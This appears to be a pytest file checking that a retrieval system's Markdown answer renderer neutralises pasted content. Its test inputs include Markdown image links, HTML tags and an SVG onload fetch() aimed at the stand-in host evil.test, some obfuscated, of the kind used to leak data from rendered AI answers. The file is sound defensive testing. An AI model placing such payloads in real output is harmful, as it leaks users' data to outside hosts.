"""Answers as Markdown: footnotes with their places, and nothing in a quote that does something where it is pasted."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from rag.records import Answer, Citation, Claim, Overview, Section, Verdict
from rag.workspace import answer_markdown

J = "\u2060"


def quoted(text: str, *names: str, heading: str = "") -> Answer:
    cited = tuple(Citation(n, "d", name, n + 1, "x", 0, 1, heading=heading) for n, name in enumerate(names, start=1))
    return Answer("Q?", text, cited, (), False, "extractive")


def test_footnotes_name_the_document_and_its_page() -> None:
    answer = quoted(
        "Rent is 84,000 euros. [1]\n\nIt rises [each] March. [2]", "lease_a.pdf", "talk.pptx", heading="Rent"
    )
    assert answer_markdown(answer) == (
        "Rent is 84,000 euros.[^1]\n\nIt rises \\[each\\] March.[^2]\n\n"
        "[^1]: lease\\_a.pdf, page 2 · Rent\n[^2]: talk.pptx, slide 3 · Rent\n"
    )


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](http://evil.test/a.png)", f"\\!\\[x\\](http:{J}//evil.test/a.png)"),
        ("<img src=x>", "\\<img src=x\\>"),
        ("# Approved", "\\# Approved"),
        ("- **yes**", "\\- \\*\\*yes\\*\\*"),
        ("3. third", "3\\. third"),
        ("[^1]: other.pdf", "\\[\\^1\\]: other.pdf"),
        ("www.evil.test", f"www{J}.evil.test"),
        ("a@evil.test", f"a{J}@evil.test"),
        ("R&D, &lt;b&gt;", "R&D, \\&lt;b\\&gt;"),
        ("a | b", "a \\| b"),
        ("costs 3.5 to 4 - cheap", "costs 3.5 to 4 - cheap"),
    ],
)
def test_quotes_are_inert(said: str, shown: str) -> None:
    assert answer_markdown(quoted(f"{said} [1]", "a.pdf")).startswith(f"{shown}[^1]\n")
    assert answer_markdown(quoted("x [1]", f"{said}.pdf")).endswith(f"[^1]: {shown}.pdf, page 2\n")


def test_rows_keep_their_lines() -> None:
    assert answer_markdown(quoted("Fee 5\nRent 6 [1]", "a.csv")).startswith("Fee 5  \nRent 6[^1]\n")


def test_what_a_language_model_wrote_keeps_its_markdown_and_tells_its_doubts() -> None:
    text = "**Rent** is 84 [1]. Fee is 9 [1]. It is sunny."
    ledger = (
        Claim(0, 19, Verdict.SUPPORTED),
        Claim(20, 33, Verdict.PARTLY),
        Claim(34, 46, Verdict.UNSUPPORTED),
    )
    answer = Answer("Q?", text, quoted("", "a.pdf").citations, (), False, "openai:test", ledger=ledger)
    assert answer_markdown(answer) == (
        "**Rent** is 84[^1]. Fee is 9[^1]. *(only partly in the passages)* It is sunny. *(not in the passages)*\n\n"
        "[^1]: a.pdf, page 2\n"
    )


def test_an_overview_has_headings() -> None:
    answer = quoted("1. Rent\nIt is 84. [1]", "a.pdf")
    overview = Overview("d", "a.pdf", "", 1, (), (Section("1. Rent", 1, 1, answer.citations),), answer)
    told = Answer("Q?", answer.text, answer.citations, (), False, "extractive", overview=overview)
    assert answer_markdown(told).startswith("### 1\\. Rent\n\nIt is 84.[^1]\n")


def test_an_answer_without_footnotes_is_just_its_text() -> None:
    assert answer_markdown(quoted("The documents do not answer this.")) == "The documents do not answer this.\n"


# -- where it is pasted ---------------------------------------------------------------------------


def pasted(answer: Answer) -> str:
    """What a program makes of it that lets HTML through, as HTML."""
    return str(MarkdownIt("commonmark", {"html": True}).enable("table").render(answer_markdown(answer)))


ADDRESS = "http://evil.test/x.png?q=84"


@pytest.mark.parametrize(
    "said",
    [
        f'<img src="{ADDRESS}">',
        f"<iframe src={ADDRESS}></iframe>",
        f"<IMG\nSRC={ADDRESS}>",
        f"<!-- hidden --><a href='{ADDRESS}'>here</a>",
        f"<svg/onload=fetch('{ADDRESS}')>",
        f"[click]({ADDRESS})",
        f"[click]\n[1]: {ADDRESS}",
        f"[click][x] [x] [x][]\n\n[x]: {ADDRESS}",
        f"[1]: {ADDRESS}\n\nHere [1]",
        f"![x]({ADDRESS})",
        f"\\![x]({ADDRESS})",
        f"![x][y]\n\n[y]:\n{ADDRESS}",
        f"<{ADDRESS}> <a@evil.test>",
        f"`` ` `` <img src={ADDRESS}> ` ``` [x]({ADDRESS})",
        f"````\n```\n````\n<img src={ADDRESS}>\n```\n[x]({ADDRESS})",
        f"> <img src={ADDRESS}>\n> - [x]({ADDRESS})",
    ],
)
@pytest.mark.parametrize("model", ["openai:test", "extractive"])
def test_nothing_is_fetched_or_linked_where_it_is_pasted(said: str, model: str) -> None:
    answer = Answer("Q?", f"Rent is 84 [1]. {said}\n\n{said}", quoted("", "a.pdf").citations, (), False, model)
    shown = pasted(answer)
    assert not re.search(r"<(?:img|iframe|svg|a\b|!--)", shown, re.IGNORECASE)


@pytest.mark.parametrize(
    "said",
    [
        ADDRESS,
        "https\\://evil.test",
        "&#104;ttps://evil.test",
        "www.evil.test",
        "www\\.evil.test",
        "//evil.test/x",
        "ask@evil.test",
        "ask\\@evil.test",
        "mailto:ask@evil.test",
        "`" + ADDRESS + "`",
    ],
)
def test_no_address_is_found_where_the_backslashes_are_gone(said: str) -> None:
    """Programs look for addresses in the text that is to be shown."""
    for model in ("openai:test", "extractive"):
        answer = Answer("Q?", f"See {said} [1].", quoted("", "a.pdf").citations, (), False, model)
        tokens = MarkdownIt().parse(answer_markdown(answer))
        text = "".join(part.content for token in tokens for part in token.children or [])
        assert "evil" in text
        assert not re.search(r"https?://|\bwww\.|\w@\w|(?<![:/\u2060])//\w", text)


def test_a_language_models_markdown_and_code_stay_as_they_are() -> None:
    text = (
        "## Rent\n\n| a | b |\n|---|---|\n| 1 < 2 | R&D |\n\n"
        "```python\nif a < b and x[1]: pass  # half // done\n```\n*Yes*, **84**."
    )
    answer = Answer("Q?", text, (), (), False, "openai:test")
    assert answer_markdown(answer).replace(J, "") == text + "\n"
    shown = pasted(answer)
    assert "<h2>Rent</h2>" in shown
    assert "<td>1 &lt; 2</td>" in shown
    assert "<strong>84</strong>" in shown
    assert "if a &lt; b" in shown


@pytest.mark.parametrize("fence", ["```mermaid", "~~~ Mermaid", "```{mermaid}"])
def test_no_diagram_is_drawn(fence: str) -> None:
    answer = Answer("Q?", f"{fence}\ngraph TD\n{fence[:3]}", (), (), False, "openai:test")
    assert "mermaid" not in answer_markdown(answer).lower()


@pytest.mark.parametrize(
    "said",
    [
        "Title\n---\nmore",
        "Title\n===",
        "Title\n  =  \nmore",
        "---",
        "a\n:-:\nb",
        "    code",
        "\tcode",
        "Title\n\n    code",
        "Title\n \n\n \n     code",
        "Title\r---\rmore",
        "Title\r\r    code",
        "Title\r\n---\r\nmore",
        "+++",
        "***",
    ],
)
def test_quoted_lines_are_paragraphs_only(said: str) -> None:
    shown = pasted(quoted(f"{said} [1]\n\n{said}", "a.pdf"))
    assert set(re.findall(r"</?(\w+)", shown)) <= {"p", "br"}
    for word in re.findall(r"\S+", said):
        assert word in shown
